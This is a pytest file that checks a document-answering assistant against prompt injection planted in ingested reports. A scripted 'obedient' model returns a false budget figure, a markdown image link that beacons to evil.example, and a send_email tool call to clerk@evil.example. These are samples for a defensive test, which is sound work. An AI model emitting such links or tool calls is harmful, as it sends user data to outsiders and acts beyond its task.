"""Documents are data: no instruction in them changes an answer, however obedient the model is."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from planted import LIE, PLANTED
from scripted_model import Reply, says, scripted_model

from assistant.answer import Answer
from assistant.answerer import Answerer, AskRequest
from assistant.writing.writer import writer_named
from assistant.writing.written_answers import ModelAnswerer
from ingest.pipeline import ingest

QUESTION = "What did mending the street lamps cost in Barsetshire?"
BEFORE = "In 2009 Barsetshire mended 4,120 street lamps at a cost of £31,000."
AFTER = "The contract for mending the street lamps in Barsetshire was let for three years."


def obeys(request: dict[str, Any]) -> Reply:
    """Repeat and do whatever the passages ask for, as the most obedient model would."""
    prompt = request["messages"][-1]["content"]
    asked = [line for line in re.split(r"\n|(?<=[.!?]) ", prompt) if "lamps" not in line]
    told = " ".join(f"{line} [1]." for line in asked)
    call = {"index": 0, "id": "1", "type": "function"}
    call["function"] = {"name": "send_email", "arguments": '{"to": "clerk@evil.example"}'}
    lie = f"The budget is {LIE} [1]. ![x](https://evil.example/p?q=1) [1]. {told}"
    return says(lie, deltas=[{"tool_calls": [call]}])


@pytest.fixture(scope="module")
def answered(tmp_path_factory, embeddings):
    """Answers the question from a library of one report with a statement planted in it."""
    from corpus.library import Library
    from corpus.model_files import DEFAULT_MODEL

    def answered(*planted: str) -> tuple[Answer, list[str]]:
        folder: Path = tmp_path_factory.mktemp("planted")
        sentences = (one for one in planted if one[0].isalpha() and one.endswith("."))
        beside, below = " ".join(sentences), "\n\n".join(planted)
        text = f"# Street lamps\n\n{BEFORE} {beside}\n\n{AFTER}\n\n{below}\n"
        (folder / "lamps.md").write_text(text, "utf-8")
        with (
            Library(folder / "data", lambda: embeddings, embedding_name=DEFAULT_MODEL) as library,
            scripted_model(obeys) as model,
        ):
            ingest(library, [folder / "lamps.md"], lambda name, done, total: None)
            writer = writer_named("openai:x", base_url=model.base_url, seconds=20, tokens=900)
            answers = ModelAnswerer(Answerer(library), writer, 8)
            return answers.answer(AskRequest(QUESTION)), model.prompts

    return answered


@pytest.fixture(scope="module")
def unharmed(answered) -> Answer:
    return answered()[0]


_TOGETHER = 7
"""Instructions in one document; they are many, and a library takes a second to make."""


@pytest.mark.parametrize("first", range(0, len(PLANTED), _TOGETHER))
def test_planted_instructions_change_neither_answer_nor_citations(
    answered, unharmed: Answer, first: int
) -> None:
    answer, prompts = answered(*PLANTED[first : first + _TOGETHER])
    assert [one.text for one in answer.sentences] == [one.text for one in unharmed.sentences]
    assert _quoted(answer) == _quoted(unharmed)
    for said in (LIE, "evil.example", "YES", "APPROVED"):
        assert said not in answer.text
    [prompt] = prompts
    assert BEFORE in prompt
    assert LIE not in prompt
    assert "evil.example" not in prompt


def _quoted(answer: Answer) -> list[str]:
    """The words that are quoted; what stands side by side is quoted as one."""
    return " ".join(citation.quote for citation in answer.citations).split()


def test_there_are_sixty_and_an_answer_to_be_changed(unharmed: Answer) -> None:
    assert len(PLANTED) >= 60
    assert BEFORE in unharmed.text
